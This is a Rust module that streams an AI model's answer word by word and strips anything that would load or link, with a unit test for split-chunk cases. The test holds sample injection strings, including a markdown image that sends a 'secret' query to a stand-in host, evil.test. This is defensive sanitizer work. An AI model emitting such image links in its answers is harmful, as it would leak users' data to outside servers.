//! Streams an answer while it is generated, made inert like the whole.

use crate::core::assistant::inert;

/// Characters of a word without an end that are still streamed.
const MAX_WORD_CHARS: usize = 2_000;

/// Buffers the model's output and returns it word by word: a link, an image or a tag has no white space between its
/// characters, so that whole words can be made inert on their own.
#[derive(Default)]
pub(super) struct InertStream(String);

impl InertStream {
    /// Adds a delta, and returns what can be shown now.
    pub(super) fn add(&mut self, piece: &str) -> Option<String> {
        self.0.push_str(piece);
        let end = self.0.rfind(char::is_whitespace)?;
        let end = end + self.0[end..].chars().next().map_or(0, char::len_utf8);
        let rest = self.0.split_off(end);
        let ready = std::mem::replace(&mut self.0, rest);
        Some(make_inert(&ready))
    }

    /// Returns the rest.
    pub(super) fn finish(self) -> Option<String> {
        // A word that long is not text for people; the whole answer has it.
        (!self.0.is_empty() && self.0.len() <= MAX_WORD_CHARS).then(|| make_inert(&self.0))
    }
}

/// The same text without anything that would load or link. White space stays, since it joins the words.
fn make_inert(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for word in text.split_inclusive(char::is_whitespace) {
        let bare = word.trim_end();
        shown.push_str(&inert(bare));
        match &word[bare.len()..] {
            "" => {}
            space if space.contains('\n') => shown.push('\n'),
            _ => shown.push(' '),
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    fn streamed(pieces: &[&str]) -> String {
        let mut gathered = InertStream::default();
        let mut shown: String = pieces.iter().filter_map(|piece| gathered.add(piece)).collect();
        shown.extend(gathered.finish());
        shown
    }

    // rules: AGENT-7
    #[test]
    fn nothing_harmful_slips_through_between_two_pieces() {
        assert_eq!(streamed(&["Hello ", "wor", "ld.\nBye"]), "Hello world.\nBye");
        let whole = "See ![x](https://evil.test/?q=secret) and [here](https://evil.test) <img src=x> end";
        let split: Vec<String> = whole.chars().map(String::from).collect();
        let split: Vec<&str> = split.iter().map(String::as_str).collect();
        assert_eq!(streamed(&split), inert(whole));
        assert_eq!(streamed(&[whole]), inert(whole));
    }
}
